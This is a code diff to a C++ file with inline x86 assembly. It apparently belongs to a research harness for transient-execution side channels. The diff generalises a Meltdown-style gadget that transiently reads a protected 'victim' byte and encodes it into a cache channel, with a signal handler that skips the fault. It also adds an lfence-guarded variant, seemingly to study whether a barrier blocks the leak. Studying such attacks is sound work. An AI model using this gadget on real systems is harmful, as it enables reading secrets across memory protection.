@@ -15,6 +15,10 @@ extern "C" {
 /// the victim is reached transiently only.
 void transient_send(const void* slow, const std::uint8_t* guard, const std::uint8_t* victim,
                     const std::uint8_t* channel);
+/// The same with a barrier in front of the sending.
+void transient_send_late(const void* slow, const std::uint8_t* guard, const std::uint8_t* victim,
+                         const std::uint8_t* channel);
+/// A return, for either.
 extern const char transient_send_end[];
 }
 
@@ -22,11 +26,11 @@ extern const char transient_send_end[];
 // fetches its line, and again when the second of them is there: by then the line has come, and
 // there is a whole miss left to send in. Nothing but the channel's line remembers the byte.
 asm(R"(
-    .pushsection .text
+    .macro TRANSIENT_SEND name, barrier
     .balign 64
-    .globl transient_send, transient_send_end
-    .type transient_send, @function
-transient_send:
+    .globl \name, \name\()_end
+    .type \name, @function
+\name:
     movq (%rdi), %rdi
     movq (%rdi), %rdi
     movq (%rdi), %r8
@@ -34,11 +38,17 @@ transient_send:
     movzbl (%rdx), %eax
     andl $0, %edi
     movzbl (%rdx,%rdi), %eax
+    \barrier
     shlq $12, %rax
     movzbl (%rcx,%rax), %eax
-transient_send_end:
+\name\()_end:
     ret
-    .size transient_send, . - transient_send
+    .size \name, . - \name
+    .endm
+
+    .pushsection .text
+    TRANSIENT_SEND transient_send
+    TRANSIENT_SEND transient_send_late, lfence
     .popsection
 )");
 
@@ -53,7 +63,8 @@ void step_over(int /*signal*/, siginfo_t* /*information*/, void* context) {
 
 class SignalReader final : public TransientReader {
 public:
-    SignalReader() {
+    explicit SignalReader(Sending sending)
+        : send_(sending == Sending::Late ? &transient_send_late : &transient_send) {
         constexpr std::size_t page = 4096;
         void* pages = mmap(nullptr, page, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
         struct sigaction action{};
@@ -67,11 +78,12 @@ public:
 
     void attempt(const Attempt& attempt) override {
         slow_.flush();
-        transient_send(slow_.start(), attempt.victim_is_readable ? forbidden_ : &allowed_,
-                       attempt.victim, attempt.channel);
+        send_(slow_.start(), attempt.victim_is_readable ? forbidden_ : &allowed_, attempt.victim,
+              attempt.channel);
     }
 
 private:
+    decltype(&transient_send) send_;
     SlowPointer slow_{0};
     const std::uint8_t* forbidden_ = nullptr;
     std::uint8_t allowed_ = 0;
@@ -79,8 +91,8 @@ private:
 
 }  // namespace
 
-std::unique_ptr<TransientReader> make_signal_reader() {
-    return std::make_unique<SignalReader>();
+std::unique_ptr<TransientReader> make_signal_reader(Sending sending) {
+    return std::make_unique<SignalReader>(sending);
 }
 
 bool has_transactions() {
